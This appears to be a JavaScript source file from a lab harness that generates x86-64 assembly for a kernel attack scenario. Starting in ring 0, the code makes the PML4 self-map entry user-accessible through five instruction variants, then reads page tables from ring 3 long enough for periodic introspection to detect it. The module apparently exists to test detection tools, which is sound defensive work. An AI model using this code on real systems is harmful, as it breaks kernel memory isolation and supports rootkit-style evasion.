/**
 * Attack `self-map` (ATT&CK T1014): ring 0 makes the self-map entry of the PML4 accessible to ring 3, which then reads
 * page tables. The entry is reached through its own virtual address, and the bit is set by one of five instruction forms.
 */
import { MAILBOX } from '../plan.js';

/** U/S bit of a page-table entry (SDM vol. 3A, table 4-15). */
const USER_BIT = 2;
const USER = 1 << USER_BIT;

/**
 * How long ring 3 goes on reading in an ordinary process, in TSC ticks (1000 per microsecond): two and a half seconds, so
 * that introspection which looks once a second has had its chance.
 */
const READING_TIME = 2_500_000_000;

/** Each form: RDI = address of the entry. */
const selfMapForms = `
LabSelfMapMov:
    mov rax, [rdi]
    or rax, ${USER}
    mov [rdi], rax
    ret

LabSelfMapOr:
    or qword [rdi], ${USER}
    ret

LabSelfMapXchg:
    mov rax, [rdi]
    or rax, ${USER}
    xchg [rdi], rax
    ret

LabSelfMapBts:
    bts qword [rdi], ${USER_BIT}
    ret

; The walk for the write may set the dirty bit between the read and the comparison: only then it is tried again.
LabSelfMapLockCmpxchg:
    mov rax, [rdi]
.retry:
    mov r8, rax
    mov rdx, rax
    or rdx, ${USER}
    lock cmpxchg [rdi], rdx
    je .end
    cmp rax, r8
    jne .retry
.end:
    ret
`;

/** The forms in the order of their scenario numbers, for LABDATA. */
export const selfMapFormTable =
  'LabSelfMapForms: dq LabSelfMapMov, LabSelfMapOr, LabSelfMapXchg, LabSelfMapBts, LabSelfMapLockCmpxchg';

/** Code of the attack. R12 = ring-3 stub, R13 = its stack. */
export const selfMapCode = `
LabSelfMapAttack:
    mov rdi, SelfMapEntry
    ; An earlier run that nobody stopped has left the bit set.
    test byte [rdi], ${USER}
    je .clean
    and qword [rdi], ${-1 - USER}
    call LabInvalidate
.clean:
    mov rax, [Mailbox+${MAILBOX.scenario}]
    lea rcx, [LabSelfMapForms]
    call qword [rcx+rax*8-8]
    lea rcx, [TextWrote]
    call DbgPrintLine
    call LabInvalidate
    rdtsc
    shl rdx, 32
    lea r14, [rdx+rax]
    mov r9d, 1
    call LabReadInRing3
    ; In System it is found out at once or never; elsewhere ring 3 reads once per time slice until it cannot.
    cmp qword [Mailbox+${MAILBOX.target}], 0
    je .end
.again:
    test eax, eax
    jne .end
    mov ecx, 1
    call KeDelayExecutionThreadEntry
    xor r9d, r9d
    call LabReadInRing3
    mov ebx, eax
    rdtsc
    shl rdx, 32
    add rdx, rax
    sub rdx, r14
    mov eax, ebx
    mov ecx, ${READING_TIME}
    cmp rdx, rcx
    jb .again
.end:
    ret

; eax = 0 when the stub has read the entry, or the vector of what stopped it. r9 = 1 to print the value
LabReadInRing3:
    mov rcx, r12
    mov rdx, r13
    mov r8, SelfMapEntry
    jmp KiCallUserModeEntry

; Forgets all translations that the self-map entry took part in. rdi = its address
LabInvalidate:
    invlpg [rdi]
    mov rax, cr3
    mov cr3, rax
    ret

${selfMapForms}
`;
